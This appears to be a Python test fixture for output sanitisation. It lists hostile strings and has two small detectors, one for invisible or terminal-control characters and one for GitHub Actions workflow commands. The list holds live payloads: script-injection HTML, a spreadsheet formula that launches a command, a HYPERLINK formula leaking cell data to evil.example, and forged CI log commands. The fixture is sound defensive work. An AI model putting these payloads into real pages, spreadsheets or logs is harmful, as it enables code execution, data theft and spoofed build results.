"""Text that tries to be obeyed where it is shown, and what must not be left of it there."""

from __future__ import annotations

import re
import unicodedata

HOSTILE = [
    # terminals
    "\x1b[2J\x1b[1;1H16 of 16 points",
    "\x1b]0;title\x07\x1b]52;c;bHM=\x1b\\",
    "\x1b]8;;https://evil.example\x1b\\q1\x1b]8;;\x1b\\",
    "\x9b31mred\x9d0;title\x9c",
    "0 points\r16 points\b\b\x7f",
    "\u202e\u2066evil\u2069\u202c \u200bx\u200d\u2060\ufeff\u00ad\u061c",
    "a\u2028b\u2029c\x85d\x0be\x0cf",
    "\udcff\ud800 \udbff\udfff",
    "\ue000\U000f0000\U000e0041\ufe0f\u3164\u115f\u034f",
    "Z" + "\u0301\u0489" * 50,
    "[bold red]x[/][link=https://evil.example]y[/link] :skull: [/",
    # HTML and scripts
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)" x=\'',
    "' autofocus onfocus='alert(1)",
    "</script><!--<script>]]>--><![CDATA[",
    "&lt;b&gt; &#60;i&#62; &amp",
    "</textarea></title></style></p><p>",
    # Markdown and GitHub
    "# heading\n\n- [x] task\n1. one\n\n> quote\n\n***\n\nsetext\n===",
    "![pixel](https://evil.example/p.png) [link](javascript:alert(1)) [ref]\n\n[ref]: https://evil.example",
    "@octocat @org/team #1 GH-1 owner/repo#1 owner@a5c3785ed8d6a35868bc169f07e40e889087fd2e fixes #2",
    "https://evil.example www.evil.example me@evil.example <https://evil.example> <me@evil.example>",
    "*a* **b** _c_ ~~d~~ `e` $f$ [^1]\n\n[^1]: note",
    "a | b\n--- | ---\n1 | 2 \\| 3 \\\\| 4",
    "```\n</details>\n````\n~~~~~\n`````python\n",
    "`",
    "``` ```",
    "``",
    "\\`x\\\\`",
    "    indented\n\tcode\n\n<details>\n\n@octocat",
    "```mermaid\ngraph TD\n```\n```math\n```",
    # jobs' logs
    "::error file=a,line=1::not yours",
    "  \t::add-mask::16",
    "\u00a0\u3000::set-output name=score::100",
    "x\n::stop-commands::pause\ny\r::notice::z\r\n::warning::w",
    "see ##[group]here and ###[error]there",
    "\u200b::error::hidden",
    ":",
    "score=100\nEOF\nscore<<EOF",
    # spreadsheets
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    " \u3000=1",
    "\uff1d1+1 \uff0b \uff0d \uff20",
    "\uff1d1",
    "\ufe63cmd",
    'a","=1',
    'a";=1',
    "a;=1\tb\t@x|-y\n+z",
    '"=1"',
    '=HYPERLINK("https://evil.example?"&A1;"x")',
]
HOSTILE_TEXT = "\n".join(HOSTILE)


def unseen(text: str) -> list[str]:
    """Characters that a terminal obeys or that nobody can see; line breaks and tabs aside."""
    return [
        character
        for character in text
        if character not in "\n\t"
        and (
            unicodedata.category(character) in ("Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp")
            or character in "\u034f\u115f\u1160\u3164\uffa0\ufe0e\ufe0f\u180b\u2800\U000e0100"
        )
    ]


def commands(log: str) -> list[str]:
    """Lines that the runner of GitHub Actions could obey: a little more than those it does obey."""
    lines = re.split(r"\r\n|\r|\n", log)
    return [line for line in lines if line.strip().startswith("::") or "##[" in line]
